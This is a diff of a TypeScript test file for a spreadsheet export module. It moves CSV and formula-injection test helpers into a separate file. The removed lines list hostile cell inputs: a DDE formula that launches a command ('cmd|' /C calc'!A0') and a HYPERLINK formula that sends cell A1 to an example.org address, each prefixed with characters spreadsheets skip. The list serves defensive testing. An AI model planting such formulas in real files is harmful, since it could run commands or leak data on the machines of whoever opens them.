@@ -1,17 +1,9 @@
-import { execFileSync } from "node:child_process";
-import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
-import { tmpdir } from "node:os";
-import { join } from "node:path";
 import { strFromU8, unzipSync } from "fflate";
 import { expect, test } from "vitest";
 import { csvOf } from "./csv";
 import { type Sheet, showable, wouldCalculate } from "./sheet";
+import { hasLibreOffice, hostile, throughLibreOffice } from "./sheet-trial";
 import { xlsxOf } from "./xlsx";
-
-/** Cells with which people were hurt before, and their like: each beginning, bare, quoted, and after what a spreadsheet skips. */
-const beginnings = ["=", "+", "-", "@", "\t=", "\r=", "\n=", "\0=", "＝", "＋", "－", "＠", " =", "\u00a0=", "\u200b="];
-const endings = ["1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://example.org?x="&A1,"klik")', '2";=3+3;"'];
-const hostile = beginnings.flatMap((beginning) => endings.map((ending) => beginning + ending));
 
 /** What must stay as it is, to the eye and to the machine. */
 const innocent = [
@@ -89,38 +81,6 @@ test("every text in a workbook is typed as text, and comes back letter by letter
   );
   expect(rows).toEqual([columns, ...all.rows.map((row) => row.map((cell) => showable(String(cell))))]);
 });
-
-/** A file as LibreOffice opens it, saved by it in another format. */
-function throughLibreOffice(name: string, content: string | Uint8Array, format: string): string {
-  const folder = mkdtempSync(join(tmpdir(), "kenniskring-sheet-"));
-  try {
-    writeFileSync(join(folder, name), content);
-    // Semicolons, double quotes, UTF-8, from the first line, formulas let be: what opening it comes down to.
-    const reading = name.endsWith(".csv") ? ["--infilter=Text - txt - csv (StarCalc):59,34,76,1,,2067,false,true,false,,,,true"] : [];
-    const options = [
-      `-env:UserInstallation=file://${folder}/profile`,
-      "--headless",
-      ...reading,
-      "--convert-to",
-      format,
-      "--outdir",
-      folder,
-    ];
-    execFileSync("soffice", [...options, join(folder, name)], { stdio: "ignore" });
-    return readFileSync(join(folder, `proef.${format.split(":")[0]}`), "utf8");
-  } finally {
-    rmSync(folder, { recursive: true, force: true });
-  }
-}
-
-const hasLibreOffice = (() => {
-  try {
-    execFileSync("soffice", ["--version"], { stdio: "ignore" });
-    return true;
-  } catch {
-    return false;
-  }
-})();
 
 const all = sheetOf([...hostile, ...innocent]);
 const unless = hasLibreOffice ? "" : " (soffice is not installed)";
